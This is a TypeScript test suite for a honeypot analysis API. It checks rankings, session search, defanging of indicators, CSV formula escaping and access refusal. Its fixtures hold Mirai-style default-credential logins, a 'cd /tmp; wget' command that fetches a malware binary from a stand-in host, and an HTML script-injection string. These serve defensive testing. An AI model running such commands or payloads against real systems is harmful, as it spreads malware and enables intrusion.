/** Honeypots through the API: from what a sensor sends to what the centre, and nobody else, gets to see. */
import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import { groups } from '../src/api/contract/index.ts'
import { cowrieLines, hostileTexts, hostileUrl, hostileVisit, type Visit } from './honeypots.test-support.ts'
import { push } from './sample.test-support.ts'
import { startTestService, type Client } from './service.test-support.ts'

const mirai: Visit = {
  session: '0000000000a1',
  source: '198.51.100.7',
  at: 10_000,
  tries: [
    ['admin', 'admin'],
    ['root', 'xc3511'],
  ],
  commands: ['/bin/busybox MIRAI', 'cd /tmp; wget http://198.18.7.7/bins/mirai.mips'],
  file: { url: 'http://198.18.7.7/bins/mirai.mips', sha256: 'cd'.repeat(32) },
}
const again: Visit = { ...mirai, session: '0000000000a2', sensor: 'honeypot-2', at: 20_000 }
const looker: Visit = { session: '0000000000a3', source: '198.51.100.8', at: 30_000, tries: [['guest', '']] }
const hostile = hostileVisit(1)

suite('honeypots', async () => {
  const service = await startTestService()
  const analyst = await service.person('analyst')
  const first = cowrieLines(mirai)
  // The end comes before the beginning, and in a delivery of its own.
  await push(service, 'delivery-1', first.slice(4).toReversed())
  await push(service, 'delivery-2', [
    ...first.slice(0, 4),
    ...cowrieLines(again),
    ...cowrieLines(looker),
    ...cowrieLines(hostile),
  ])

  const json = async <Value>(path: string, client: Client = analyst): Promise<Value> => {
    const response = await client.fetch('GET', `/api/honeypots/${path}`)
    assert.equal(response.status, 200, `${path}: ${await response.clone().text()}`)
    return (await response.json()) as Value
  }
  interface Ranking {
    readonly total: number
    readonly rows: readonly {
      readonly key: string
      readonly detail: string | null
      readonly events: number
      readonly sensors: number
    }[]
  }
  interface Sessions {
    readonly items: readonly {
      readonly id: string
      readonly source: { readonly address: string }
      readonly family: { readonly family: string } | null
    }[]
    readonly next: string | null
  }
  const found = async (query: string): Promise<readonly string[]> =>
    (await json<Sessions>(`sessions?${query}`)).items.map(({ source }) => source.address)

  test('totals, rankings and the course over time', async () => {
    const { totals, previousTotals } = await json<{
      totals: Record<string, number>
      previousTotals: object | null
    }>('summary')
    assert.deepEqual(
      ['connections', 'sources', 'sensors', 'sessions', 'tried', 'login', 'command', 'file', 'samples'].map(
        (name) => totals[name],
      ),
      [4, 3, 3, 4, 4, 3, 3, 3, 2],
    )
    assert.equal(previousTotals, null)
    const users = await json<Ranking>('ranking?dimension=username')
    assert.deepEqual(
      users.rows.map(({ key, events }) => [key, events]),
      [
        ['root', 3],
        ['admin', 2],
        [hostileTexts[0], 1],
        ['guest', 1],
      ],
    )
    const families = await json<Ranking>('ranking?dimension=family')
    assert.deepEqual(
      families.rows.map(({ key, events, sensors }) => [key, events, sensors]),
      [['mirai', 3, 3]],
    )
    const samples = await json<Ranking>('ranking?dimension=sample_family')
    assert.deepEqual([samples.total, samples.rows[0]?.events], [2, 2])
    // What is let in is tried: it counts once.
    const activities = await json<Ranking>('ranking?dimension=activity&limit=50')
    const byName = new Map(activities.rows.map(({ key, events }) => [key, events]))
    assert.equal(byName.get('login'), 3)
    assert.equal(activities.total, [...byName.values()].reduce((sum, events) => sum + events, 0) - 3)
    const { points } = await json<{ points: { group: string; events: number }[] }>(
      'timeline?group=sensor&activity=command',
    )
    assert.equal(
      points.reduce((sum, { events }) => sum + events, 0),
      10,
    )
    const { items } = await json<{ items: { sensors: number; example: string }[] }>('campaigns')
    assert.ok(items.some(({ sensors, example }) => sensors === 2 && example.startsWith('cd /tmp; wget')))
  })

  test('sessions by all that they may have', async () => {
    const all = ['198.51.100.8', '198.51.100.7', '198.51.100.7', '203.0.113.2']
    assert.deepEqual(await found(''), all)
    for (const [query, addresses] of [
      ['sensor=honeypot-2', [all[1]]],
      ['address=198.51.100.8', [all[0]]],
      ['happened=login', all.slice(1)],
      ['happened=file&sensor=honeypot-1', [all[2]]],
      ['username=guest', [all[0]]],
      ['password=xc3511', all.slice(1, 3)],
      // An empty one was tried; that is another thing than none.
      ['password=', [all[0], all[3]]],
      ['port=2323', all],
      ['port=22', []],
      ['country=unknown&service=telnet', all],
      ['country=US', []],
      ['command=BUSYBOX%20mirai', all.slice(1)],
      [`mention=${encodeURIComponent(hostileUrl)}`, [all[3]]],
      ['mention=198.18.7.7', all.slice(1, 3)],
      [`hash=${'CD'.repeat(32)}`, all.slice(1, 3)],
      ['family=mirai', all.slice(1)],
      ['family=mozi', []],
    ] as const)
      assert.deepEqual(await found(query), addresses, query)
    const seen: string[] = []
    for (let cursor = ''; ;) {
      const { items, next } = await json<Sessions>(
        `sessions?limit=1${cursor === '' ? '' : `&cursor=${cursor}`}`,
      )
      seen.push(...items.map(({ source }) => source.address))
      if (next === null) break
      cursor = next
    }
    assert.deepEqual(seen, all)
  })

  test('one session, put together from two deliveries, with reasons', async () => {
    const { items } = await json<Sessions>('sessions?address=198.51.100.7&sensor=honeypot-1')
    const session = await json<{
      timeline: { activity: string; command: string | null; url: string | null }[]
      verdict: { family: string; confidence: number; evidence: { weight: number; why: object | null }[] }
      indicators: { kind: string; value: string }[]
    }>(`sessions/${items[0]!.id}`)
    assert.deepEqual(
      session.timeline.map(({ activity }) => activity),
      ['connect', 'credential', 'credential', 'command', 'command', 'file', 'close'],
    )
    assert.equal(session.timeline[5]?.url, 'hxxp://198[.]18[.]7[.]7/bins/mirai.mips')
    const { family, confidence, evidence } = session.verdict
    assert.equal(family, 'mirai')
    assert.equal(
      confidence,
      Math.round(100 * (1 - evidence.reduce((left, { weight }) => left * (1 - weight), 1))),
    )
    assert.ok(evidence.every(({ why }) => why !== null))
    assert.deepEqual(session.indicators.find(({ kind }) => kind === 'hash')?.value, 'cd'.repeat(32))
    const plain = await json<{ timeline: { url: string | null }[] }>(`sessions/${items[0]!.id}?form=refanged`)
    assert.equal(plain.timeline[5]?.url, mirai.file!.url)
    assert.equal((await analyst.fetch('GET', '/api/honeypots/sessions/1-2-')).status, 404)
    assert.equal((await analyst.fetch('GET', '/api/honeypots/sessions/nothing')).status, 400)
  })

  test('samples and indicators are defanged unless asked for otherwise; CSV has no formulas', async () => {
    const { items, keys } = await json<{
      keys: number
      items: { sha256: string; family: { family: string } | null; urls: string[]; sessions: number }[]
    }>('samples')
    assert.equal(keys, 2)
    const [most] = items
    assert.deepEqual(
      [most?.sha256, most?.family?.family, most?.sessions, most?.urls],
      ['cd'.repeat(32), 'mirai', 2, ['hxxp://198[.]18[.]7[.]7/bins/mirai.mips']],
    )
    const one = await json<{ items: { sha256: string }[] }>(`samples?hash=${'ab'.repeat(32)}`)
    assert.deepEqual(
      one.items.map(({ sha256 }) => sha256),
      ['ab'.repeat(32)],
    )
    assert.equal((await json<{ items: object[] }>('samples?family=mozi')).items.length, 0)
    const csv = async (path: string): Promise<string> =>
      (await analyst.fetch('GET', `/api/honeypots/${path}`)).text()
    assert.match(await csv('indicators.csv?kind=domain'), /domain,evil\[\.\]example\[\.\]com,active/)
    assert.match(await csv('indicators.csv?kind=domain&form=refanged'), /domain,evil\.example\.com,active/)
    assert.match(await csv('ranking.csv?dimension=domain'), /evil\[\.\]example\[\.\]com/)
    const commands = await csv('ranking.csv?dimension=command')
    assert.match(commands, /"""><script>alert\(2\)<\/script>"/)
    assert.doesNotMatch(await csv('ranking.csv?dimension=password'), /(?:^|,)[=+@-]/m)
  })

  test('nobody but the centre: officers, vendors, bound tokens and the public are refused', async () => {
    const agency = await service.agency(1)
    const vendor = await service.vendor(1)
    const refused: readonly (readonly [Client, number])[] = [
      [await service.person('officer', agency), 403],
      [await service.person('vendor', vendor), 403],
      [await service.machine(['read'], agency), 403],
      [await service.machine(['returns'], vendor), 403],
      [await service.machine(['push', 'metrics', 'agencies']), 403],
      [service.nobody, 401],
    ]
    const [session] = (await json<Sessions>('sessions')).items
    for (const { path } of Object.values(groups.honeypots))
      for (const [client, status] of refused) {
        const response = await client.fetch('GET', path.replace('{id}', session!.id))
        const text = await response.text()
        assert.equal(response.status, status, path)
        assert.doesNotMatch(text, /203\.0\.113|mirai/i)
      }
    const reader = await service.machine(['read'])
    for (const { path } of Object.values(groups.honeypots))
      assert.equal((await reader.fetch('GET', path.replace('{id}', session!.id))).status, 200, path)
  })
})
